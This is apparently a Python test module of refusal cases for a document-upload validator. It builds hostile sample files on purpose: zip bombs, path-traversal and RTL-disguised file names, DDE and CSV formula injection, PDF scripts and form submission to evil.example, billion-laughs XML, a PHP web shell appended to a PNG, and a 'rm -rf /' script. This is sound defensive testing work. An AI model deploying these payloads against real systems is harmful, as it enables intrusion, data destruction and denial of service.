"""Files that must be refused, each made here to differ in one thing from a file that is taken."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Final, NamedTuple

from PIL import Image
from pypdf import PdfWriter

from songjieyou.core.files.kinds import LARGEST, LARGEST_PICTURE
from songjieyou.core.files.refusals import Refusal
from songjieyou.core.files.zips import MOST_PARTS
from tests.core.files import make

OLE: Final = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SVG: Final = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML: Final = b"<!doctype html><html><script>alert(1)</script></html>"
ZIP: Final = make.package({"evil.js": "alert(1)"})
BOMB: Final = bytes(2_000_000)
LAUGHS: Final = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'


class Case(NamedTuple):
    """What is wrong, the name it comes under, its content, and the reason for which it is refused."""

    what: str
    name: str
    content: Callable[[], bytes]
    reason: Refusal


def case(what: str, name: str, content: bytes | Callable[[], bytes], reason: Refusal) -> Case:
    return Case(what, name, content if callable(content) else lambda: content, reason)


def flagged(content: bytes) -> bytes:
    """A package whose first entry says that it is encrypted, in both places."""
    changed = bytearray(content)
    changed[6] |= 1
    changed[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(changed)


def renamed(content: bytes, old: bytes, new: bytes) -> bytes:
    """Names of the same length inside a package."""
    assert len(old) == len(new)
    return content.replace(old, new)


def twice(name: str) -> bytes:
    """A document with two parts of one name, the second of which another reader may prefer."""
    content = make.with_parts(make.word(), {name.swapcase(): "<other/>"})
    return renamed(content, name.swapcase().encode(), name.encode())


def lying() -> bytes:
    """A part that unpacks to far more than the directory says, with the sum of what it says."""
    content = bytearray(make.with_parts(make.word(), {"word/media/a.bin": BOMB}))
    said = bytes(1000)
    changes = ((14, 18, 22), (16, 20, 24))
    entries = (content.rindex(b"PK\x03\x04"), content.rindex(b"PK\x01\x02"))
    for start, (crc, _, size) in zip(entries, changes, strict=True):
        struct.pack_into("<L", content, start + crc, zlib.crc32(said))
        struct.pack_into("<L", content, start + size, len(said))
    return bytes(content)


def overlapping() -> bytes:
    """Two entries of the directory that share one content: the trick of the densest bombs."""
    content = make.with_parts(make.word(), {"word/media/a.bin": b"a" * 5000, "word/media/b.bin": b"a" * 5000})
    changed = bytearray(content)
    entries = [number for number in range(len(content)) if content.startswith(b"PK\x01\x02", number)]
    (first,) = struct.unpack_from("<L", content, entries[-2] + 42)
    struct.pack_into("<L", changed, entries[-1] + 42, first)
    return bytes(changed)


def link(name: str) -> bytes:
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, 0o120777 << 16
    target = io.BytesIO(make.word())
    with zipfile.ZipFile(target, "a") as file:
        file.writestr(info, "/etc/passwd")
    return target.getvalue()


def gap() -> bytes:
    """A page between two entries, where the directory does not look."""
    content = make.word()
    second = content.index(b"PK\x03\x04", 4)
    changed = bytearray(content[:second] + HTML + content[second:])
    for number in range(len(changed)):
        if changed.startswith(b"PK\x01\x02", number):
            (place,) = struct.unpack_from("<L", changed, number + 42)
            struct.pack_into("<L", changed, number + 42, place + len(HTML) * (place >= second))
    (start,) = struct.unpack_from("<L", changed, len(changed) - 6)
    struct.pack_into("<L", changed, len(changed) - 6, start + len(HTML))
    return bytes(changed)


def relates(kind: str, target: str, mode: str = "External") -> bytes:
    return make.word(relations=make.relation(kind, target, mode))


def header(text: str) -> str:
    """What stands on top of each page of a Word document."""
    return f'<w:hdr xmlns:w="{make.WORD}">{make.paragraph(text)}</w:hdr>'


def huge_png(width: int, height: int) -> bytes:
    """A PNG of a few bytes that says it is enormous."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    header = struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")
    )


def animated(kind: str) -> bytes:
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    target = io.BytesIO()
    frames[0].save(target, kind, save_all=True, append_images=frames[1:])
    return target.getvalue()


def locked_pdf() -> bytes:
    writer = PdfWriter(io.BytesIO(make.pdf()))
    writer.encrypt("", "owner", algorithm="RC4-128")
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def hidden_object(content: bytes) -> bytes:
    """A PDF with an object in a compressed stream of objects, which no search of its bytes finds."""
    inner = b"7 0 " + content
    packed = zlib.compress(inner)
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(packed),
        packed,
    )
    body = make.pdf(more=(stream,))
    body = body[: body.index(b"xref\n")]
    places = [body.index(b"%d 0 obj" % number) for number in range(1, 7)]
    rows = b"\0\0\0\0\0" + b"".join(b"\1" + struct.pack(">HH", place, 0) for place in places) + b"\2\0\6\0\0"
    rows += b"\1" + struct.pack(">HH", len(body), 0)
    table = b"8 0 obj\n<< /Type /XRef /Size 9 /Root 1 0 R /W [1 2 2] /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        len(rows),
        rows,
    )
    return body + table + b"startxref\n%d\n%%%%EOF\n" % len(body)


NAMES: Final = [
    case("right-to-left override", "合同\u202efdp.exe", make.pdf, Refusal.NAME_HIDDEN_CHARACTERS),
    case("override before an allowed extension", "annex\u202egnp.pdf", make.pdf, Refusal.NAME_HIDDEN_CHARACTERS),
    case("line break in the name", "a\r\nSet-Cookie: x.pdf", make.pdf, Refusal.NAME_HIDDEN_CHARACTERS),
    case("NUL in the name", "a.php\0.pdf", make.pdf, Refusal.NAME_HIDDEN_CHARACTERS),
    case("zero-width character", "合\u200b同.pdf", make.pdf, Refusal.NAME_HIDDEN_CHARACTERS),
    case("folders in the name", "../../etc/cron.d/a.pdf", make.pdf, Refusal.NAME_WITH_FOLDERS),
    case("folders of Windows", "..\\..\\a.pdf", make.pdf, Refusal.NAME_WITH_FOLDERS),
    case("over-long name", "长" * 101 + ".pdf", make.pdf, Refusal.NAME_TOO_LONG),
    case("name too long in bytes", "长" * 80 + ".pdf", make.pdf, Refusal.NAME_TOO_LONG),
    case("reserved name", "CON.pdf", make.pdf, Refusal.NAME_RESERVED),
    case("reserved name, two extensions", "lpt1.2024.pdf", make.pdf, Refusal.NAME_RESERVED),
    case("no name", ".pdf", make.pdf, Refusal.NAME_MISSING),
    case("program in disguise", "发票.exe.pdf", make.pdf, Refusal.NAME_DISGUISED),
    case("page in disguise", "发票.html .pdf", make.pdf, Refusal.NAME_DISGUISED),
]
KINDS: Final = [
    case("program", "发票.exe", b"MZ\x90\0", Refusal.KIND_PROGRAM),
    case("program behind an extension", "发票.pdf.exe", make.pdf, Refusal.KIND_PROGRAM),
    case("SVG with script", "图.svg", SVG, Refusal.KIND_WEB_PAGE),
    case("web page", "页.html", HTML, Refusal.KIND_WEB_PAGE),
    case("archive", "材料.zip", ZIP, Refusal.KIND_ARCHIVE),
    case("document with macros", "表.xlsm", make.sheet, Refusal.KIND_WITH_MACROS),
    case("older document", "表.xls", OLE, Refusal.KIND_OLD_OFFICE),
    case("HEIC", "照片.HEIC", b"\0\0\0\x18ftypheic", Refusal.KIND_PHONE_PICTURE),
    case("GIF", "图.gif", lambda: make.picture("GIF"), Refusal.KIND_PICTURE),
    case("no extension", "合同", make.pdf, Refusal.KIND_UNKNOWN),
    case("empty", "空.pdf", b"", Refusal.EMPTY),
    case("too large", "大.pdf", lambda: make.pdf() + b" " * LARGEST, Refusal.TOO_LARGE),
    case("picture too large", "大.jpg", lambda: make.picture() + b" " * LARGEST_PICTURE, Refusal.TOO_LARGE),
    case("program named PDF", "a.pdf", b"MZ\x90\0" + bytes(100), Refusal.NOT_ITS_EXTENSION),
    case("SVG named PNG", "a.png", SVG, Refusal.NOT_ITS_EXTENSION),
    case("page named JPEG", "a.jpg", HTML, Refusal.NOT_ITS_EXTENSION),
    case("PNG named JPEG", "a.jpg", lambda: make.picture("PNG"), Refusal.NOT_ITS_EXTENSION),
    case("sound named WebP", "a.webp", b"RIFF\x24\0\0\0WAVEfmt ", Refusal.NOT_ITS_EXTENSION),
    case("table named document", "a.docx", make.sheet, Refusal.NOT_ITS_EXTENSION),
    case("document named table", "a.xlsx", make.word, Refusal.NOT_ITS_EXTENSION),
    case("archive named document", "a.docx", ZIP, Refusal.NOT_ITS_EXTENSION),
    case("archive named OFD", "a.ofd", ZIP, Refusal.NOT_ITS_EXTENSION),
    case("older document named document", "a.docx", OLE + bytes(600), Refusal.NOT_ITS_EXTENSION),
    case("PDF named text", "a.txt", make.pdf, Refusal.NOT_ITS_EXTENSION),
]
PACKAGES: Final = [
    case("password", "a.docx", OLE + "EncryptedPackage".encode("utf-16-le"), Refusal.PACKAGE_ENCRYPTED),
    case("encrypted entry", "a.docx", lambda: flagged(make.word()), Refusal.PACKAGE_ENCRYPTED),
    case(
        "encrypted OFD",
        "a.ofd",
        lambda: make.package(make.ofd_parts() | {"Encryptions.xml": "<E/>"}),
        Refusal.PACKAGE_ENCRYPTED,
    ),
    case("bomb", "a.docx", lambda: make.with_parts(make.word(), {"word/media/a.bin": BOMB}), Refusal.PACKAGE_TOO_LARGE),
    case(
        "bomb of many parts",
        "a.xlsx",
        lambda: make.with_parts(make.sheet(), {f"a{number}.bin": bytes(900_000) for number in range(120)}),
        Refusal.PACKAGE_TOO_LARGE,
    ),
    case("bomb that lies about its size", "a.docx", lying, Refusal.PACKAGE_TOO_LARGE),
    case("bomb of overlapping entries", "a.docx", overlapping, Refusal.PACKAGE_BROKEN),
    case(
        "too many parts",
        "a.docx",
        lambda: make.with_parts(make.word(), {f"a{number}.xml": "<a/>" for number in range(MOST_PARTS)}),
        Refusal.PACKAGE_TOO_MANY_PARTS,
    ),
    case(
        "archive in the document",
        "a.docx",
        lambda: make.with_parts(make.word(), {"word/media/a.png": ZIP}),
        Refusal.PACKAGE_EMBEDS,
    ),
    case(
        "program in the document",
        "a.pptx",
        lambda: make.with_parts(make.slides(), {"ppt/media/a.png": b"MZ\x90\0"}),
        Refusal.PACKAGE_EMBEDS,
    ),
    case(
        "program in OFD",
        "a.ofd",
        lambda: make.package(make.ofd_parts() | {"Doc_0/Attachs/a.dat": b"MZ\x90\0"}),
        Refusal.PACKAGE_EMBEDS,
    ),
    case(
        "OLE object",
        "a.docx",
        lambda: make.with_parts(make.word(), {"word/embeddings/oleObject1.bin": OLE}),
        Refusal.PACKAGE_EMBEDS,
    ),
    case(
        "ActiveX",
        "a.xlsx",
        lambda: make.with_parts(make.sheet(), {"xl/activeX/activeX1.xml": "<ocx/>"}),
        Refusal.PACKAGE_EMBEDS,
    ),
    case("foreign chunk", "a.docx", lambda: relates("aFChunk", "a.xml", "Internal"), Refusal.PACKAGE_EMBEDS),
    case(
        "path out of the folder",
        "a.docx",
        lambda: make.with_parts(make.word(), {"../../evil.xml": "<a/>"}),
        Refusal.PACKAGE_BAD_NAMES,
    ),
    case(
        "absolute path",
        "a.docx",
        lambda: make.with_parts(make.word(), {"/etc/evil.xml": "<a/>"}),
        Refusal.PACKAGE_BAD_NAMES,
    ),
    case("symbolic link", "a.docx", lambda: link("word/media/a.png"), Refusal.PACKAGE_BAD_NAMES),
    case("same name twice", "a.docx", lambda: twice("word/document.xml"), Refusal.PACKAGE_SAME_NAMES),
    case(
        "macros", "a.docx", lambda: make.with_parts(make.word(), {"word/vbaProject.bin": OLE}), Refusal.PACKAGE_MACROS
    ),
    case(
        "macro document renamed",
        "a.docx",
        lambda: make.word(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        Refusal.PACKAGE_MACROS,
    ),
    case(
        "macro sheet",
        "a.xlsx",
        lambda: make.with_parts(make.sheet(), {"xl/macrosheets/sheet1.xml": "<m/>"}),
        Refusal.PACKAGE_MACROS,
    ),
    case(
        "remote template",
        "a.docx",
        lambda: relates("attachedTemplate", "https://evil.example/a.dotm"),
        Refusal.PACKAGE_REACHES_OUT,
    ),
    case(
        "remote picture", "a.docx", lambda: relates("image", "https://evil.example/a.png"), Refusal.PACKAGE_REACHES_OUT
    ),
    case(
        "link to a file share",
        "a.docx",
        lambda: relates("hyperlink", "\\\\evil.example\\share\\a.exe"),
        Refusal.PACKAGE_REACHES_OUT,
    ),
    case(
        "link that is a script",
        "a.docx",
        lambda: relates("hyperlink", "javascript:alert(1)"),
        Refusal.PACKAGE_REACHES_OUT,
    ),
    case(
        "DDE field in pieces",
        "a.docx",
        lambda: make.word(
            "<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\x</w:instrText></w:r></w:p>"
        ),
        Refusal.PACKAGE_DDE,
    ),
    case(
        "DDE simple field",
        "a.docx",
        lambda: make.word('<w:p><w:fldSimple w:instr="DDE cmd x"/></w:p>'),
        Refusal.PACKAGE_DDE,
    ),
    case("DDE formula", "a.xlsx", lambda: make.sheet("=cmd|'/c calc'!A0"), Refusal.PACKAGE_DDE),
    case(
        "formula that asks the network",
        "a.xlsx",
        lambda: make.sheet('=WEBSERVICE("http://evil.example")'),
        Refusal.PACKAGE_DDE,
    ),
    case(
        "entities",
        "a.docx",
        lambda: make.with_parts(make.word(), {"word/styles.xml": f"{make.XML}{LAUGHS}<x>&b;</x>"}),
        Refusal.PACKAGE_UNSAFE_XML,
    ),
    case(
        "entities in another encoding",
        "a.xlsx",
        lambda: make.with_parts(make.sheet(), {"xl/x.xml": f'<?xml version="1.0"?>{LAUGHS}<x/>'.encode("utf-16")}),
        Refusal.PACKAGE_UNSAFE_XML,
    ),
    case(
        "entities in OFD",
        "a.ofd",
        lambda: make.package(make.ofd_parts() | {"Doc_0/a.xml": f"{LAUGHS}<x>&b;</x>"}),
        Refusal.PACKAGE_UNSAFE_XML,
    ),
    case(
        "broken XML",
        "a.docx",
        lambda: make.with_parts(make.word(), {"word/styles.xml": "<a><b></a>"}),
        Refusal.PACKAGE_BROKEN,
    ),
    case("truncated", "a.docx", lambda: make.word()[:-40], Refusal.PACKAGE_BROKEN),
    case(
        "changed byte",
        "a.docx",
        lambda: make.word().replace(b"PK\x03\x04", b"PK\x03\x05", 2).replace(b"PK\x03\x05", b"PK\x03\x04", 1),
        Refusal.PACKAGE_BROKEN,
    ),
    case("data before", "a.docx", lambda: b"PK\x03\x04" + HTML + make.word(), Refusal.TWO_IN_ONE),
    case("data between", "a.docx", gap, Refusal.TWO_IN_ONE),
    case("data behind", "a.docx", lambda: make.word() + HTML, Refusal.TWO_IN_ONE),
    case("second archive behind", "a.docx", lambda: make.word() + ZIP, Refusal.TWO_IN_ONE),
]
PDFS: Final = [
    case("cut short", "a.pdf", lambda: make.pdf()[:-200], Refusal.PDF_BROKEN),
    case("nothing but its first line", "a.pdf", b"%PDF-1.7\n", Refusal.PDF_BROKEN),
    case(
        "no pages",
        "a.pdf",
        lambda: make.pdf().replace(b"/Count 1", b"/Count 0").replace(b"[3 0 R]", b"[     ]"),
        Refusal.PDF_BROKEN,
    ),
    case("encrypted", "a.pdf", locked_pdf, Refusal.PDF_ENCRYPTED),
    case(
        "script at opening",
        "a.pdf",
        lambda: make.pdf(catalog="/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        Refusal.PDF_SCRIPT,
    ),
    case(
        "script under an escaped name",
        "a.pdf",
        lambda: make.pdf(more=(b"<< /S /#4aava#53cript /#4a#53 (app.alert(1)) >>",)),
        Refusal.PDF_SCRIPT,
    ),
    case(
        "script in a compressed object",
        "a.pdf",
        lambda: hidden_object(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        Refusal.PDF_SCRIPT,
    ),
    case(
        "script that no table names",
        "a.pdf",
        lambda: make.pdf().replace(b"startxref", b"9 0 obj\n<< /S /JavaScript >>\nendobj\nstartxref"),
        Refusal.PDF_SCRIPT,
    ),
    case("dynamic form", "a.pdf", lambda: make.pdf(catalog="/AcroForm << /XFA 4 0 R >>"), Refusal.PDF_SCRIPT),
    case(
        "starts a program",
        "a.pdf",
        lambda: make.pdf(page="/Annots [<< /Subtype /Link /A << /S /Launch /F (x) >> >>]"),
        Refusal.PDF_ACTION,
    ),
    case(
        "acts when a page is shown", "a.pdf", lambda: make.pdf(page="/AA << /O << /S /Named >> >>"), Refusal.PDF_ACTION
    ),
    case(
        "opens another file",
        "a.pdf",
        lambda: make.pdf(catalog="/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\a) >>"),
        Refusal.PDF_ACTION,
    ),
    case(
        "sends a form",
        "a.pdf",
        lambda: make.pdf(more=(b"<< /S /SubmitForm /F (http://evil.example) >>",)),
        Refusal.PDF_ACTION,
    ),
    case(
        "embedded file",
        "a.pdf",
        lambda: make.pdf(catalog="/Names << /EmbeddedFiles << /Names [] >> >>"),
        Refusal.PDF_EMBEDS,
    ),
    case(
        "attached file", "a.pdf", lambda: make.pdf(page="/Annots [<< /Subtype /FileAttachment >>]"), Refusal.PDF_EMBEDS
    ),
    case(
        "too many objects",
        "a.pdf",
        lambda: make.pdf().replace(b"xref\n0 6", b"9 0 obj\n" * 100_001 + b"xref\n0 6"),
        Refusal.PDF_TOO_MANY_OBJECTS,
    ),
    case("nested without end", "a.pdf", lambda: make.pdf(page=f"/X {'[' * 300}{']' * 300}"), Refusal.TOO_COMPLEX),
    case("data before", "a.pdf", lambda: b"GIF89a\n" + make.pdf(), Refusal.TWO_IN_ONE),
    case("page before", "a.pdf", lambda: HTML + make.pdf(), Refusal.TWO_IN_ONE),
    case(
        "page in its head", "a.pdf", lambda: make.pdf().replace(b"%\xe2\xe3\xcf\xd3", b"%" + HTML), Refusal.TWO_IN_ONE
    ),
    case("archive behind", "a.pdf", lambda: make.pdf() + ZIP, Refusal.TWO_IN_ONE),
    case("script behind", "a.pdf", lambda: make.pdf() + HTML, Refusal.TWO_IN_ONE),
]
PICTURES: Final = [
    case("enormous", "a.png", lambda: huge_png(60_000, 60_000), Refusal.PICTURE_TOO_LARGE),
    case("one side enormous", "a.png", lambda: huge_png(30_000, 10), Refusal.PICTURE_TOO_LARGE),
    case("says more than it holds", "a.png", lambda: huge_png(500, 500), Refusal.PICTURE_BROKEN),
    case("truncated JPEG", "a.jpg", lambda: make.picture(size=(400, 400))[:-700], Refusal.PICTURE_BROKEN),
    case("truncated PNG", "a.png", lambda: make.picture("PNG", (400, 400))[:-60], Refusal.PICTURE_BROKEN),
    case("only a header", "a.jpg", b"\xff\xd8\xff\xe0" + bytes(50), Refusal.PICTURE_BROKEN),
    case("animated WebP", "a.webp", lambda: animated("WEBP"), Refusal.PICTURE_ANIMATED),
    case("animated PNG", "a.png", lambda: animated("PNG"), Refusal.PICTURE_ANIMATED),
    case("archive behind the picture", "a.jpg", lambda: make.picture() + ZIP, Refusal.TWO_IN_ONE),
    case("page behind the picture", "a.png", lambda: make.picture("PNG") + HTML, Refusal.TWO_IN_ONE),
    case(
        "script in its comment", "a.jpg", lambda: make.picture(comment=b"<script>alert(1)</script>"), Refusal.TWO_IN_ONE
    ),
    case("PDF behind the picture", "a.webp", lambda: make.picture("WEBP") + make.pdf(), Refusal.TWO_IN_ONE),
    case("program of a server", "a.png", lambda: make.picture("PNG") + b"<?php system($_GET[0]);", Refusal.TWO_IN_ONE),
]
TEXTS: Final = [
    case("NUL", "a.txt", "合同\0".encode(), Refusal.TEXT_NOT_TEXT),
    case("binary", "a.csv", bytes(range(1, 200)), Refusal.TEXT_NOT_TEXT),
    case("UTF-16", "a.txt", "合同".encode("utf-16"), Refusal.TEXT_NOT_TEXT),
    case("no encoding", "a.txt", b"abc\xff\xfe\xff", Refusal.TEXT_UNREADABLE),
    case("page", "a.txt", HTML, Refusal.TEXT_IS_CODE),
    case("SVG", "a.csv", b"a,b\n" + SVG, Refusal.TEXT_IS_CODE),
    case("script of the shell", "a.txt", b"#!/bin/sh\nrm -rf /", Refusal.TEXT_IS_CODE),
    case("saved page", "a.txt", b"MIME-Version: 1.0\nContent-Type: multipart/related", Refusal.TEXT_IS_CODE),
    case("DDE in a table", "a.csv", b"name,value\nx,=cmd|'/C calc'!A0\n", Refusal.TEXT_CALLS),
    case("formula that fetches", "a.csv", b'name\n"=HYPERLINK(""http://evil.example"")"\n', Refusal.TEXT_CALLS),
    case("formula behind a sign", "a.csv", b"+cmd|' /C calc'!A0", Refusal.TEXT_CALLS),
]
MARKED: Final = [
    case("in the name", "【机密】方案.docx", make.word, Refusal.MARKED),
    case("internal, in the name", "内部资料-调度表.xlsx", make.sheet, Refusal.MARKED),
    case("in a document", "a.docx", lambda: make.word(make.paragraph("机密★10年")), Refusal.MARKED),
    case(
        "in pieces",
        "a.docx",
        lambda: make.word("<w:p><w:r><w:t>秘</w:t></w:r><w:r><w:t>　密★</w:t></w:r></w:p>"),
        Refusal.MARKED,
    ),
    case(
        "in a header",
        "a.docx",
        lambda: make.with_parts(make.word(), {"word/header1.xml": header("内部资料 注意保管")}),
        Refusal.MARKED,
    ),
    case("in a table", "a.xlsx", lambda: make.sheet("绝密"), Refusal.MARKED),
    case("in slides", "a.pptx", lambda: make.slides("内部资料，严禁外传"), Refusal.MARKED),
    case("in OFD", "a.ofd", lambda: make.package(make.ofd_parts("秘密★1年")), Refusal.MARKED),
    case("in a PDF", "a.pdf", lambda: make.chinese_pdf("机密★长期"), Refusal.MARKED),
    case("in a text", "a.txt", "关于某事的通知\n密级：秘密\n".encode("gb18030"), Refusal.MARKED),
    case("in a CSV cell", "a.csv", "名称,标记\n甲,内部文件\n".encode(), Refusal.MARKED),
]
GROUPS: Final = {
    "name": NAMES,
    "kind": KINDS,
    "package": PACKAGES,
    "pdf": PDFS,
    "picture": PICTURES,
    "text": TEXTS,
    "marked": MARKED,
}
CASES: Final = [(f"{group}: {each.what}", each) for group, cases in GROUPS.items() for each in cases]
